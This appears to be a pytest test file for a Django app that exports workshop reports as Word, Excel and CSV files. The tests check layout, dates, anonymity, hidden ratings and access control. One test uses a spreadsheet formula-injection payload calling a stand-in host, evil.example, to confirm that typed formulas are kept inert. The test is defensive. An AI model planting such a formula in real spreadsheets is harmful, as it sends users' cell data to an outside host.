"""The Word report, the workbook and the CSV files, read as an officer's tools read them:
python-docx for Word, openpyxl for Excel, the csv module for CSV."""

import csv
import datetime
import io
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone
from docx import Document
from docx.oxml.ns import qn
from openpyxl import load_workbook

from assessments.models import Action, ActionStatus, PdfRender, Rating
from assessments.office import word
from model_content.models import Stage
from tests.builders import evidence_text, series_of_two, workshop_completed, workshop_rated
from tests.factories import MembershipFactory, UserFactory
from tests.pdfs import document_get

ARTIFACTS = Path(__file__).resolve().parent.parent / "test-artifacts" / "office"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV = "text/csv; charset=utf-8"
ACTION_HEADERS = [
    "Organisation",
    "Workshop",
    "Workshop date",
    "Barrier",
    "Action",
    "Responsible",
    "Accountable",
    "Due",
    "Status",
    "Overdue",
    "Last update",
    "Updated by",
    "Note",
]
RATING_HEADERS = [
    "Organisation",
    "Workshop",
    "Workshop date",
    "Barrier",
    "Participant",
    "Stage",
    "Evidence",
    "Given through the facilitator",
]


@pytest.fixture(autouse=True)
def _cache(settings, tmp_path):
    settings.PDF_CACHE_DIR = tmp_path / "cache"


def url(workshop, name):
    return reverse(name, kwargs={"org": workshop.organisation.slug, "code": workshop.code})


def workbook_of(client, workshop):
    data = document_get(client, url(workshop, "workbook_xlsx"), XLSX).content
    return load_workbook(io.BytesIO(data))


def csv_rows(client, workshop, name):
    data = document_get(client, url(workshop, name), CSV).content
    assert data.startswith(b"\xef\xbb\xbf")  # the byte order mark Excel needs for UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def docx_of(client, workshop, *, keep_as=None):
    data = document_get(client, url(workshop, "report_docx"), DOCX).content
    if keep_as:
        keep(data, f"{keep_as}.docx")
    return Document(io.BytesIO(data))


def keep(data: bytes, name: str) -> None:
    """The file in test-artifacts/office/ to open; with LibreOffice there, as PDF and PNGs."""
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    path = ARTIFACTS / name
    path.write_bytes(data)
    office = shutil.which("libreoffice") or shutil.which("soffice")
    if office and shutil.which("pdftoppm"):
        subprocess.run(  # noqa: S603
            [office, "--headless", "--convert-to", "pdf", "--outdir", str(ARTIFACTS), str(path)],
            check=True,
            capture_output=True,
            timeout=120,
        )
        subprocess.run(  # noqa: S603
            ["pdftoppm", "-r", "60", "-png", str(path.with_suffix(".pdf")), str(path)],  # noqa: S607
            check=True,
        )


def sheet_rows(sheet, header_row=3):
    rows = list(sheet.iter_rows(min_row=header_row, values_only=True))
    return list(rows[0]), [list(r) for r in rows[1:]]


def docx_text(document) -> str:
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        parts += [cell.text for row in table.rows for cell in row.cells]
    for section in document.sections:
        parts += [p.text for p in section.header.paragraphs + section.footer.paragraphs]
    return "\n".join(parts)


@pytest.fixture
def completed(northshire, alice, team):
    return workshop_completed(organisation=northshire, facilitator=alice, members=team)


# ---------------------------------------------------------------- the workbook


def test_the_workbooks_action_plan_has_a_row_per_action_under_a_frozen_header_with_real_dates(
    client_for, completed, vic
):
    book = workbook_of(client_for(vic), completed)
    keep(
        document_get(client_for(vic), url(completed, "workbook_xlsx"), XLSX).content,
        "workbook.xlsx",
    )
    assert book.sheetnames == ["Action plan", "Ratings"]
    sheet = book["Action plan"]
    assert sheet.freeze_panes == "A4"  # the title, what it is as at, and the header
    assert sheet.print_title_rows == "$3:$3"
    headers, rows = sheet_rows(sheet)
    assert headers == ACTION_HEADERS
    assert len(rows) == 18
    first = dict(zip(headers, rows[0], strict=True))
    assert first["Organisation"] == "Northshire Council"
    assert first["Workshop"] == completed.title
    assert (first["Barrier"], first["Action"]) == ("Leadership", "Leadership action 1")
    assert (first["Responsible"], first["Accountable"]) == (
        "Bob Example",
        "Chair of the audit committee",
    )
    assert first["Status"] == "Not started"
    # Dates are dates: a spreadsheet sorts and filters them as dates, not as text.
    due = sheet.cell(row=4, column=ACTION_HEADERS.index("Due") + 1)
    assert due.is_date and isinstance(due.value, datetime.datetime)
    assert due.value.date() == completed.actions.order_by("barrier__order", "created_at")[0].due_on
    assert sheet.cell(row=4, column=3).is_date
    assert "As at" in sheet["A2"].value


def test_the_workbooks_ratings_are_a_row_each_after_the_reveal_with_names(
    client_for, completed, vic
):
    headers, rows = sheet_rows(workbook_of(client_for(vic), completed)["Ratings"])
    assert headers == RATING_HEADERS
    assert len(rows) == 24  # four people, six barriers
    by = {(r[3], r[4]): r for r in rows}
    bob_on_leadership = by["Leadership", "Bob Example"]
    assert bob_on_leadership[5] == "Starting"
    assert bob_on_leadership[6].startswith("Evidence of Bob on Leadership")


def test_before_the_reveal_no_file_has_a_rating_row_or_any_evidence(
    client_for, northshire, alice, bob, carol, vic, team
):
    hidden = workshop_rated(
        organisation=northshire, facilitator=alice, members=team, revealed=False
    )
    secrets = [evidence_text(bob, b) for b in hidden.barriers.all()]
    for person in (alice, carol, vic):  # the facilitator too: the reveal is for everyone
        client = client_for(person)
        sheet = workbook_of(client, hidden)["Ratings"]
        headers, rows = sheet_rows(sheet)
        assert headers == RATING_HEADERS and rows == []
        assert "hidden until the facilitator reveals them" in sheet["A2"].value
        assert csv_rows(client, hidden, "ratings_csv") == [RATING_HEADERS]
        text = docx_text(docx_of(client, hidden))
        assert not any(secret in text for secret in secrets)
        assert "Evidence of" not in text
        assert "4 of 4 have rated this barrier." in text


def test_the_ratings_of_an_anonymous_workshop_carry_letters_never_names(
    client_for, northshire, alice, vic
):
    people = [UserFactory(first_name=f"Person{n}", last_name="Example") for n in range(5)]
    for person in people:
        MembershipFactory(user=person, organisation=northshire)
    workshop = workshop_rated(
        organisation=northshire, facilitator=alice, members=people, anonymous=True
    )
    client = client_for(vic)
    sheet = workbook_of(client, workshop)["Ratings"]
    _headers, rows = sheet_rows(sheet)
    assert {r[4] for r in rows} == {f"Participant {x}" for x in "ABCDE"}
    assert "anonymous workshop" in sheet["A2"].value
    csv_people = {r[4] for r in csv_rows(client, workshop, "ratings_csv")[1:]}
    assert csv_people == {f"Participant {x}" for x in "ABCDE"}
    # Listed by letter, not in the order of the names (which would give the letters away).
    leadership = [r[4] for r in rows if r[3] == "Leadership"]
    assert leadership == sorted(leadership)
    text = docx_text(docx_of(client, workshop))
    evidence = text[text.index("Evidence and challenges") :]
    assert "Participant A" in evidence
    assert not re.search(r"Person\d Example, (starting|developing|consolidating)", evidence)


def test_typed_text_that_looks_like_a_formula_stays_text_in_the_workbook_and_the_csv(
    client_for, completed, vic
):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    action = completed.actions.order_by("barrier__order", "created_at").first()
    Action.objects.filter(pk=action.pk).update(description=formula, status_note="\x0bvertical tab")
    cell = workbook_of(client_for(vic), completed)["Action plan"].cell(row=4, column=5)
    assert cell.value == formula and cell.data_type == "s"
    row = csv_rows(client_for(vic), completed, "actions_csv")[1]
    assert row[4] == "'" + formula


# ---------------------------------------------------------------- CSV


def test_the_action_plan_csv_is_a_header_and_a_row_per_action_with_iso_dates(
    client_for, completed, bob, vic
):
    action = completed.actions.order_by("barrier__order", "created_at").first()
    yesterday = timezone.localdate() - datetime.timedelta(days=1)
    Action.objects.filter(pk=action.pk).update(
        due_on=yesterday,
        status=ActionStatus.IN_PROGRESS,
        status_note="Siân is drafting it.",
        status_updated_at=timezone.now(),
        status_updated_by=bob,
    )
    completed.revision += 1
    completed.save(update_fields=["revision"])
    rows = csv_rows(client_for(vic), completed, "actions_csv")
    assert rows[0] == ACTION_HEADERS
    assert len(rows) == 19
    first = dict(zip(rows[0], rows[1], strict=True))
    assert datetime.date.fromisoformat(first["Due"]) == yesterday
    assert datetime.date.fromisoformat(first["Workshop date"]) == completed.date
    assert datetime.date.fromisoformat(first["Last update"]) == timezone.localdate()
    assert (first["Status"], first["Overdue"]) == ("In progress", "Overdue")
    assert (first["Updated by"], first["Note"]) == ("Bob Example", "Siân is drafting it.")


def test_a_file_drawn_yesterday_is_drawn_afresh_today_so_overdue_is_true_on_the_day(
    client_for, completed, vic, monkeypatch
):
    action = completed.actions.order_by("barrier__order", "created_at").first()
    today = timezone.localdate()
    Action.objects.filter(pk=action.pk).update(due_on=today + datetime.timedelta(days=1))
    completed.revision += 1
    completed.save(update_fields=["revision"])
    client = client_for(vic)
    assert csv_rows(client, completed, "actions_csv")[1][9] == ""
    assert client.get(url(completed, "actions_csv")).status_code == 200  # kept: no new render

    real = timezone.localdate
    monkeypatch.setattr(
        timezone,
        "localdate",
        lambda value=None, *a: real(value, *a) if value else today + datetime.timedelta(days=2),
    )
    # The same revision, another day: the file is drawn again, as at that day.
    assert client.get(url(completed, "actions_csv")).status_code == 202
    assert csv_rows(client, completed, "actions_csv")[1][9] == "Overdue"
    assert PdfRender.objects.filter(workshop=completed, kind="actions_csv").count() == 1


# ---------------------------------------------------------------- Word


def _headings(document, level):
    return [p.text for p in document.paragraphs if p.style.name == f"Heading {level}"]


def test_the_word_report_is_structured_by_word_headings(client_for, completed, vic):
    document = docx_of(client_for(vic), completed, keep_as="report-closed")
    assert [p.text for p in document.paragraphs if p.style.name == "Title"] == [completed.title]
    assert _headings(document, 1) == [
        "Board summary",
        "Action plan",
        "Evidence and challenges, barrier by barrier",
    ]
    assert _headings(document, 2) == [b.name for b in completed.barriers.order_by("order")]
    assert "The evidence the team relied on" in _headings(document, 3)
    assert document.core_properties.language == "en-GB"
    assert document.sections[0].page_width.cm == pytest.approx(21, abs=0.01)  # A4, not US Letter


def test_the_word_reports_summary_gives_each_barriers_stages_in_words(client_for, completed, vic):
    summary = docx_of(client_for(vic), completed).tables[0]
    header = summary.rows[0]
    assert [c.text for c in header.cells] == [
        "Barrier",
        "Agreed stage",
        "Target",
        "Spread of individual ratings",
    ]
    rows = {r.cells[0].text: r for r in summary.rows[1:]}
    assert list(rows) == [b.name for b in completed.barriers.order_by("order")]
    leadership = rows["Leadership"]
    agreed = leadership.cells[1].text
    assert agreed.startswith("Starting\nLeaders do not show clearly")
    assert leadership.cells[2].text.startswith("Developing\n")
    assert leadership.cells[3].text == "Starting: 1\nDeveloping: 2\nConsolidating: 1"
    # Never a score or an average.
    assert not re.search(r"\d+\.\d|average|score:", "\n".join(c.text for c in leadership.cells))


def test_every_table_of_the_word_report_has_a_header_row_repeated_on_each_page(
    client_for, completed, vic
):
    document = docx_of(client_for(vic), completed)
    assert len(document.tables) == 2  # the summary and the action plan
    for table in document.tables:
        first = table.rows[0]._tr
        assert first.trPr.find(qn("w:tblHeader")) is not None
        assert all(r._tr.trPr.find(qn("w:tblHeader")) is None for r in table.rows[1:])
        assert table._tbl.tblPr.find(qn("w:tblCaption")) is not None
    plan = document.tables[1]
    assert [c.text for c in plan.rows[0].cells] == [
        "Barrier",
        "Action",
        "Responsible",
        "Accountable",
        "Due",
        "Status",
    ]
    assert len(plan.rows) == 19


def test_the_word_report_flags_overdue_in_words_and_shows_a_point_only_when_it_says_more(
    client_for, completed, vic
):
    first, second = list(completed.actions.order_by("barrier__order", "created_at"))[:2]
    Action.objects.filter(pk=first.pk).update(
        due_on=timezone.localdate() - datetime.timedelta(days=3),
        description=first.breakthrough_point.text_alone,
    )
    plan = docx_of(client_for(vic), completed).tables[1]
    assert "Overdue" in plan.rows[1].cells[5].text
    assert "Draws on" not in plan.rows[1].cells[1].text
    assert "Overdue" not in plan.rows[2].cells[5].text
    assert plan.rows[2].cells[1].text.endswith(f"Draws on: {second.breakthrough_point.text_alone}")


def test_the_word_report_of_an_open_reassessment_says_draft_on_every_page_and_last_time(
    client_for, northshire, alice, vic, team
):
    _earlier, current = series_of_two(organisation=northshire, facilitator=alice, members=team)
    document = docx_of(client_for(vic), current, keep_as="report-reassessment-draft")
    assert (
        document.sections[0].header.paragraphs[0].text.startswith("Draft — workshop in progress.")
    )
    summary = document.tables[0]
    assert summary.rows[0].cells[-1].text == "Last time"
    assert summary.rows[1].cells[-1].text == "Agreed: Starting\nTarget: Developing"
    assert summary.rows[1].cells[1].text.startswith("Developing")


def test_the_word_reports_chart_has_alt_text_that_says_what_it_shows(client_for, completed, vic):
    document = docx_of(client_for(vic), completed)
    assert len(document.inline_shapes) == 1
    described = document.inline_shapes[0]._inline.docPr.get("descr")
    assert "Leadership: agreed Starting, target Developing" in described


def test_a_word_report_whose_chart_could_not_be_drawn_says_so_and_is_drawn_again(
    client_for, completed, vic, monkeypatch
):
    monkeypatch.setattr(word.chart_export, "figure_png", lambda *a, **k: None)
    document = docx_of(client_for(vic), completed)
    assert len(document.inline_shapes) == 0
    assert "could not be drawn this time" in docx_text(document)
    render = PdfRender.objects.get(workshop=completed, kind="report_docx")
    assert render.charts_complete is False


def test_the_evidence_and_challenges_are_in_the_word_report_barrier_by_barrier(
    client_for, completed, vic, erin
):
    text = docx_text(docx_of(client_for(vic), completed))
    leadership = text[text.index("\nLeadership\n") : text.index("\nLearning\n")]
    # Consensus is starting: Bob's evidence was relied on, Carol's (consolidating) kept.
    assert evidence_text(
        completed.participants.get(user__first_name="Bob").user, _b(completed)
    ) in (leadership)
    assert "Other views, kept" in leadership
    assert (
        "Erin Example, on evidence from Bob Example: “Is that true in every directorate, "
        "or only in yours?”" in leadership
    )


def _b(workshop):
    return workshop.barriers.get(slug="leadership")


# ---------------------------------------------------------------- who, and where


@pytest.mark.parametrize("name", ["report_docx", "workbook_xlsx", "actions_csv", "ratings_csv"])
def test_facilitators_members_and_viewers_download_them_and_an_outsider_gets_404(
    client_for, completed, alice, bob, vic, mallory, name
):
    kinds = {"report_docx": DOCX, "workbook_xlsx": XLSX}
    for person in (alice, bob, vic):
        response = document_get(client_for(person), url(completed, name), kinds.get(name, CSV))
        assert "attachment" in response["Content-Disposition"]
        assert response["Cache-Control"] == "private, no-store"
    assert client_for(mallory).get(url(completed, name)).status_code == 404


def test_the_downloads_sit_beside_the_pdfs_and_the_ratings_file_only_after_the_reveal(
    client_for, northshire, alice, vic, team
):
    hidden = workshop_rated(
        organisation=northshire, facilitator=alice, members=team, revealed=False
    )
    for page in ("workshop_detail", "wallchart"):
        html = client_for(vic).get(url(hidden, page)).content.decode()
        tools = html[html.index('class="page-tools') :]
        tools = tools[: tools.index("</nav>")]
        assert "<summary" in tools and "Word, Excel and CSV" in tools
        for name, words in (
            ("report_docx", "Report (Word)"),
            ("workbook_xlsx", "Action plan and ratings (Excel)"),
            ("actions_csv", "Action plan (CSV)"),
        ):
            assert f'<a href="{url(hidden, name)}">{words}</a>' in tools
        assert url(hidden, "ratings_csv") not in tools
    Rating.objects.filter(participant__workshop=hidden).update(stage=Stage.DEVELOPING)
    hidden.revealed_at = hidden.assessment_closed_at = timezone.now()
    hidden.save(update_fields=["revealed_at", "assessment_closed_at"])
    html = client_for(vic).get(url(hidden, "workshop_detail")).content.decode()
    assert f'<a href="{url(hidden, "ratings_csv")}">Ratings (CSV)</a>' in html


def test_a_document_not_drawn_yet_answers_the_preparing_page_naming_it(client_for, completed, vic):
    response = client_for(vic).get(url(completed, "report_docx"))
    assert response.status_code == 202
    page = response.content.decode()
    assert "Preparing the Word report" in page
    assert url(completed, "report_docx_status") in page
    status = client_for(vic).get(url(completed, "report_docx_status")).json()
    assert status["state"] == "queued"
